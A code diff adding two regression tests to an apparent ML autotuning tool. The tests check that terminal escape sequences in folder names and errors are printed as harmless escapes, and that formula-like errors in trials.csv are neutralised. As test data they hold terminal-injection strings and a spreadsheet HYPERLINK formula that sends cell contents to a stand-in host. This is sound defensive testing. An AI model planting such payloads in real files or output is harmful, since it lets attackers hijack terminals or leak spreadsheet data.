@@ -608,3 +608,38 @@ def test_a_classifier_s_trial_says_the_size_it_needs_and_inception_v3_defaults_t
     assert _shorthand(None, "inception_v3", None, None, "resnet50")[1] == 299
     assert _shorthand(None, None, None, None, "resnet50") == ("resnet50", 224)
     assert _shorthand(None, "inception_v3", None, 320, "resnet50")[1] == 320  # a size given stays
+
+
+def test_control_characters_in_names_print_as_escapes(capsys: pytest.CaptureFixture[str]) -> None:
+    """A class folder named `cat<ESC>]0;title<ESC>\\` in a downloaded dataset, printed in the search's `data:` line, set
+    the terminal's title, and `<ESC>[2J` cleared the screen; an error naming such a path did too. Rich's own codes pass."""
+    from rich.console import Console
+
+    from autotune.cli_errors import error_line
+    from autotune.errors import WorkloadError
+    from autotune.render import ControlsShown, console
+
+    console().print("data: d: 2 images in 2 classes (cat\x1b]0;title\x1b\\, dog\x1b[2J\x9b)", highlight=False)
+    assert capsys.readouterr().out == "data: d: 2 images in 2 classes (cat\\x1b]0;title\\x1b\\, dog\\x1b[2J\\x9b)\n"
+    assert error_line(WorkloadError("data directory /d/\x1b[31mx\r\nholds"))[0] == "data directory /d/\\x1b[31mx\\r\\nholds"
+    terminal = Console(force_terminal=True, color_system="standard", width=80)
+    terminal.push_render_hook(ControlsShown())
+    with terminal.capture() as captured:
+        terminal.print("[bold]cat[/]\x1b[2J", highlight=False)
+    assert captured.get() == "\x1b[1mcat\x1b[0m\\x1b[2J\n"
+
+
+def test_an_error_that_begins_like_a_formula_is_text_in_trials_csv(tmp_path: Path) -> None:
+    """A Task's own error `=HYPERLINK(...)` was a live link once trials.csv was opened in a spreadsheet."""
+    import csv
+
+    from autotune.output.trials_csv import write_trials_csv
+    from autotune.records import TrialRecord, TrialResult
+    from autotune.train_setup import TrainSetup
+
+    errors = ['=HYPERLINK("http://x.example/?"&A1,"click")', "+1", "@SUM(A1)", "-2+3", "RuntimeError: = is fine inside"]
+    records = [TrialRecord(i, "sampled", TrainSetup(), TrialResult(status="error", error=e)) for i, e in enumerate(errors)]
+    write_trials_csv(tmp_path / "trials.csv", records)
+    with open(tmp_path / "trials.csv", newline="", encoding="utf-8") as fh:
+        said = [row["error"] for row in csv.DictReader(fh)]
+    assert said == [f"'{e}" for e in errors[:4]] + [errors[4]]
